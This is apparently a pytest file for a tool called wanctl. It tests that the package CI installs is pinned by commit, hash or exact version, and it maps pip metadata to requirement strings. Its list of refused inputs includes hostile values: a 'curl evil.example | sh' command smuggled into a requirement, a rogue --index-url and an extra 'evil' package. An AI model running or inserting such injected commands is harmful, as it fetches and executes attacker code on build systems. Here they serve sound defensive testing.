"""The package that CI installs is pinned and said by somebody: a name alone could be anybody's."""

import pytest

from wanctl.init.answers import _requirement, check_package
from wanctl.project.errors import ProjectError

COMMIT = "0123456789abcdef0123456789abcdef01234567"
GIT = f"git+https://github.com/ours/wanctl@{COMMIT}"
SHA256 = "ab" * 32


@pytest.mark.parametrize(
    "text",
    [
        "",
        GIT,
        f"wanctl[object-stores] @ {GIT}",
        f"git+ssh://git@gitlab.example:2222/ours/wanctl.git@{COMMIT}",
        "git+https://github.com/ours/wanctl@v0.1.0",
        f"https://files.example/wanctl-0.1.0-py3-none-any.whl#sha256={SHA256}",
        "vendor/wanctl-0.1.0-py3-none-any.whl",
        "wanctl==0.1.0",
    ],
)
def test_what_names_one_thing_is_taken(text: str) -> None:
    assert check_package(text) == text


@pytest.mark.parametrize(
    "text",
    [
        "wanctl",
        "wanctl>=0.1",
        "other==1.0",
        "git+https://github.com/ours/wanctl",
        "git+https://github.com/ours/wanctl@main",
        "git+http://github.com/ours/wanctl@" + COMMIT,
        "--index-url=https://evil.example wanctl==1.0",
        "wanctl==0.1.0 evil==1",
        'wanctl==0.1.0" && curl evil.example | sh "',
        "wanctl==0.1.0\nevil",
        "git+https://github.com/$HOME/wanctl@" + COMMIT,
        "git+https://github.com/${{ github.head_ref }}/wanctl@" + COMMIT,
        " wanctl==0.1.0",
    ],
)
def test_what_moves_or_does_more_is_refused(text: str) -> None:
    with pytest.raises(ProjectError, match="is not pinned"):
        check_package(text)


@pytest.mark.parametrize(
    ("noted", "package"),
    [
        ({}, ""),
        ({"url": "file:///home/ada/wanctl", "dir_info": {"editable": True}}, ""),
        ({"url": "file:///tmp/wanctl-0.1.0-py3-none-any.whl", "archive_info": {}}, ""),
        (
            {
                "url": "https://github.com/ours/wanctl",
                "vcs_info": {"vcs": "git", "commit_id": COMMIT, "requested_revision": "main"},
            },
            GIT,
        ),
        ({"url": "file:///srv/wanctl", "vcs_info": {"vcs": "git", "commit_id": COMMIT}}, ""),
        (
            {
                "url": "https://files.example/wanctl-0.1.0-py3-none-any.whl",
                "archive_info": {"hashes": {"sha256": SHA256}},
            },
            f"https://files.example/wanctl-0.1.0-py3-none-any.whl#sha256={SHA256}",
        ),
        ({"url": "https://files.example/wanctl.tar.gz", "archive_info": {}}, ""),
    ],
)
def test_what_pip_noted_is_what_ci_installs(noted: dict[str, dict[str, object]], package: str) -> None:
    assert _requirement(noted) == package
